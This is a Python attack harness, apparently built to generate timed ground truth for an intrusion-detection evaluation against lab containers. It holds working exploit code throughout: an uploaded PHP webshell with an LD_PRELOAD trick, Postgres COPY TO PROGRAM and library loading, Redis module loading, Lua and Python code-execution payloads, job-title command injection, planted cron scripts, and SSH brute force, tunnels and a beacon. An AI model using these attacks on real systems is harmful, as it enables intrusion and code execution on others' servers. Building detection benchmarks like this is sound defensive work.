"""Carries out the attacks on one workload and says when each began and ended. Knows nothing of what is told about them.

Run as `ip netns exec NAMESPACE python attacker.py WORKLOAD FOLDER PID SECONDS [ID…]`; FOLDER holds `deeds` and `deeds.so`, PID
is the container's first process; after SECONDS none is begun. Prints a JSON line for each attack: id, first and last
nanosecond, '' or what went wrong.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from baseline.attacks import Attack, every

SERVER = "10.88.0.5"
FROM = "203.0.113.66"
PAUSE = 2.0  # after each attack, so that its last deeds are before the next
LONGEST = 45
ORDER = b"@@ORDER@@"
ROOM = 512
TEMPORARY = "tmp"
_LUA = 'local f=io.open("{name}","w") f:write("{data}") f:close() package.loadlib("{name}","*")'


class Attacker:
    """What is common: the payload, and by which way an order comes in."""

    def __init__(self, folder: Path, pid: int) -> None:
        self.folder = folder
        self.root = Path(f"/proc/{pid}/root")
        self.pid = pid
        self._object = (folder / "deeds.so").read_bytes()

    def payload(self, order: str) -> bytes:
        """The shared object with this order in it."""
        at = self._object.index(ORDER)
        text = order.encode()
        return self._object[:at] + text + bytes(ROOM - len(text)) + self._object[at + ROOM :]

    def place(self) -> str:
        """A new path for the payload: a name that was loaded once is not loaded again."""
        return f"/{TEMPORARY}/.p{time.time_ns()}.so"

    def do(self, attack: Attack) -> None:
        """One attack. Raises OSError or RuntimeError if it could not be carried out."""
        {"sh": self.shell, "so": self.load, "own": self.own}[attack.how](attack.order)

    def shell(self, order: str) -> None:
        """The service starts a shell for it."""
        raise NotImplementedError

    def load(self, order: str) -> None:
        """The service loads the payload."""
        raise NotImplementedError

    def own(self, order: str) -> None:
        """In the workload's own language."""
        raise NotImplementedError


def post(port: int, path: str, body: bytes, kind: str = "text/plain") -> str:
    """One request from the attacker's address."""
    peer = http.client.HTTPConnection(SERVER, port, timeout=LONGEST, source_address=(FROM, 0))
    try:
        peer.request("POST", path, body, {"Content-Type": kind})
        return peer.getresponse().read().decode("utf-8", "replace")
    finally:
        peer.close()


def quoted(text: str) -> str:
    """As a word of a shell."""
    return "'" + text.replace("'", "'\\''") + "'"


class Nginx(Attacker):
    """By the fault of the script in the server."""

    def own(self, order: str) -> None:
        post(80, "/debug", order.encode())

    def shell(self, order: str) -> None:
        post(80, "/debug", f"return os.execute([==[{order}]==])".encode())

    def load(self, order: str) -> None:
        data = "".join(f"\\{byte:03d}" for byte in self.payload(order))
        post(
            80,
            "/debug",
            _LUA.format(name=self.place(), data=data).encode(),
        )


class Redis(Attacker):
    """By replication from a false master and by a module."""

    def command(self, *lines: str) -> None:
        with socket.create_connection((SERVER, 6379), LONGEST, (FROM, 0)) as peer:
            for line in lines:
                if line.startswith("@WAIT "):
                    time.sleep(float(line[6:]))
                    continue
                peer.sendall(line.encode() + b"\r\n")
                peer.recv(65536)

    def own(self, order: str) -> None:
        (self.folder / "payload.so").write_bytes(self.payload("read /etc/hostname"))
        self.command(*order.split("\n"))

    def shell(self, order: str) -> None:
        self.load(f"sh {order}")

    def load(self, order: str) -> None:
        """A false master can send a module, but what is not executable is not loaded any more: another party of the shared
        folder puts it there."""
        name = f"/data/.m{time.time_ns()}.so"
        module = self.root / name.lstrip("/")
        module.write_bytes(self.payload(order))
        module.chmod(0o755)
        self.command(f"MODULE LOAD {name}")


class Postgres(Attacker):
    """By SQL as the superuser."""

    def own(self, order: str) -> None:
        for one in order.split("; "):
            argv = ["psql", "-X", "-q", "-h", SERVER, "-U", "postgres", "-c", one, "app"]
            subprocess.run(argv, check=False, timeout=LONGEST, stdin=subprocess.DEVNULL, capture_output=True)

    def shell(self, order: str) -> None:
        words = order.replace("'", "''")
        argv = ["psql", "-X", "-q", "-h", SERVER, "-U", "postgres", "-c", f"COPY (SELECT 1) TO PROGRAM '{words}'", "app"]
        subprocess.run(argv, check=False, timeout=LONGEST, stdin=subprocess.DEVNULL, capture_output=True)

    def load(self, order: str) -> None:
        data = self.payload(order).hex()
        name = self.place()
        number = time.time_ns() % 10**9  # exported in a statement of its own: the one that makes it does not see it
        text = (
            f"SELECT lo_from_bytea({number}, decode('{data}', 'hex'));\nSELECT lo_export({number}, '{name}');\nLOAD '{name}';\n"
        )
        argv = ["psql", "-X", "-q", "-h", SERVER, "-U", "postgres", "app"]
        subprocess.run(argv, check=False, timeout=LONGEST, input=text.encode(), capture_output=True)


class Php(Attacker):
    """By a page that was uploaded as a picture."""

    def page(self, code: str, name: str) -> None:
        body = f'--x\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'.encode()
        post(80, "/upload.php", body + f"<?php {code}\r\n--x--\r\n".encode(), "multipart/form-data; boundary=x")
        post(80, f"/uploads/{name}", b"")

    def own(self, order: str) -> None:
        self.page(order, "avatar.php")

    def shell(self, order: str) -> None:
        self.page(f"system(base64_decode('{_base64(order.encode())}'));", "view.php")

    def load(self, order: str) -> None:
        data = _base64(self.payload(order))
        code = f"file_put_contents('/tmp/.p.so', base64_decode('{data}')); putenv('LD_PRELOAD=/tmp/.p.so'); mail('a','b','c');"
        self.page(code, "thumb.php")


class Python(Attacker):
    """By the fault of the service."""

    def own(self, order: str) -> None:
        post(8080, "/debug", order.encode())

    def shell(self, order: str) -> None:
        post(8080, "/debug", f"import os\nresult=os.system({order!r})".encode())

    def load(self, order: str) -> None:
        name, data = self.place(), self.payload(order).hex()
        post(
            8080, "/debug", f"import ctypes\nopen('{name}','wb').write(bytes.fromhex('{data}'))\nctypes.CDLL('{name}')".encode()
        )


class Shell(Attacker):
    """By the title of a job."""

    def job(self, title: str) -> None:
        name = f"{time.time_ns() % 10**6:06d}x"
        place = self.root / "spool"
        (place / f".{name}").write_text(f"title={title}\nline\n")
        os.rename(place / f".{name}", place / f"{name}.job")
        deadline = time.monotonic() + LONGEST
        while (place / f"{name}.job").exists() and time.monotonic() < deadline:
            time.sleep(0.1)

    def own(self, order: str) -> None:
        self.job(order)

    def shell(self, order: str) -> None:
        self.job(f"x; sh -c {quoted(order)}")

    def load(self, order: str) -> None:
        name = self.place()
        (self.root / name.lstrip("/")).write_bytes(self.payload(order))
        self.job(f"x; enable -f {name} nothing")


class Cron(Attacker):
    """By files that another party of a shared folder changes."""

    def plant(self, path: str, mode: int, text: str, seconds: float) -> None:
        done = f"/{TEMPORARY}/done{time.time_ns()}"
        file = self.root / path.lstrip("/")
        before = file.read_bytes() if file.exists() else None
        file.write_text(text.replace("@DONE", done) + "\n")
        file.chmod(mode)
        deadline = time.monotonic() + seconds
        while not (self.root / done.lstrip("/")).exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        time.sleep(0.5)
        if before is None:
            file.unlink(missing_ok=True)
        else:
            file.write_bytes(before)
        if time.monotonic() > deadline:
            raise RuntimeError("it was not run")

    def own(self, order: str) -> None:
        path, mode, text = order.split(" ", 2)
        self.plant(path, int(mode, 8), text, 130.0)

    def shell(self, order: str) -> None:
        self.plant("/etc/cron.often/check", 0o755, f"#!/bin/sh\n{order}\ntouch @DONE", 100.0)

    def load(self, order: str) -> None:
        name = self.place()
        (self.root / name.lstrip("/")).write_bytes(self.payload(order))
        self.plant("/etc/cron.often/check", 0o755, f"#!/bin/bash\nenable -f {name} nothing\ntouch @DONE", 100.0)


class Sshd(Attacker):
    """By a stolen key."""

    def ssh(self, *arguments: str, user: str = "ops", key: str = "key") -> None:
        options = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-F", "none"]
        argv = ["ssh", *options, "-i", str(self.folder / key), "-b", FROM, "-l", user, *arguments[:-1], SERVER, arguments[-1]]
        subprocess.run(argv, check=False, timeout=LONGEST, stdin=subprocess.DEVNULL, capture_output=True)

    def own(self, order: str) -> None:
        what, _, rest = order.partition(" ")
        if what == "@BRUTE":
            for number in range(25):
                self.ssh("id", user=("root", "admin", "ops", "test")[number % 4], key="no-key")
        elif what == "@ROOT":
            self.ssh(rest, user="root")
        elif what == "@FORWARD":
            self.tunnel("-L", f"127.0.0.1:14447:{rest}", connect=14447)
        elif what == "@BACK":
            self.tunnel("-R", f"{rest}:127.0.0.1:22")
        elif what == "@COPY":
            options = [
                "-q",
                "-o",
                "BatchMode=yes",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-F",
                "none",
            ]
            argv = ["scp", *options, "-i", str(self.folder / "key"), str(self.folder / "deeds"), f"ops@{SERVER}:{rest}"]
            subprocess.run(argv, check=False, timeout=LONGEST, stdin=subprocess.DEVNULL, capture_output=True)
            self.ssh(f"{rest} beacon")

    def tunnel(self, kind: str, what: str, connect: int = 0) -> None:
        options = [
            "-o",
            "BatchMode=yes",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-F",
            "none",
            "-N",
        ]
        argv = ["ssh", *options, "-i", str(self.folder / "key"), "-l", "ops", kind, what, SERVER]
        tunnel = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            time.sleep(1.5)
            if connect:
                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", connect), 5) as peer:
                    peer.sendall(b"x")
                    time.sleep(0.5)
        finally:
            tunnel.terminate()
            tunnel.wait(10)

    def shell(self, order: str) -> None:
        self.ssh(order)

    def load(self, order: str) -> None:
        name = self.place()
        (self.root / name.lstrip("/")).write_bytes(self.payload(order))
        self.ssh(f"enable -f {name} nothing")


def _base64(data: bytes) -> str:
    import base64

    return base64.b64encode(data).decode()


KINDS: dict[str, Callable[[Path, int], Attacker]] = {
    "nginx": Nginx, "redis": Redis, "postgres": Postgres, "php": Php,
    "python": Python, "shell": Shell, "cron": Cron, "sshd": Sshd,
}  # fmt: skip


def main(workload: str, folder: Path, pid: int, seconds: float, only: frozenset[str]) -> None:
    """All attacks of a workload, one after the other."""
    attacker = KINDS[workload](folder, pid)
    deadline = time.monotonic() + seconds
    for attack in every()[workload]:
        if only and attack.id not in only:
            continue
        began, wrong = time.time_ns(), ""
        try:
            if time.monotonic() > deadline:
                raise RuntimeError("there was no time left")
            attacker.do(attack)
        except (OSError, RuntimeError, http.client.HTTPException, subprocess.TimeoutExpired) as error:
            wrong = f"{type(error).__name__}: {error}"[:200]
        time.sleep(PAUSE if time.monotonic() < deadline else 0.0)
        print(json.dumps({"id": attack.id, "began": began, "ended": time.time_ns(), "wrong": wrong}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), frozenset(sys.argv[5:]))
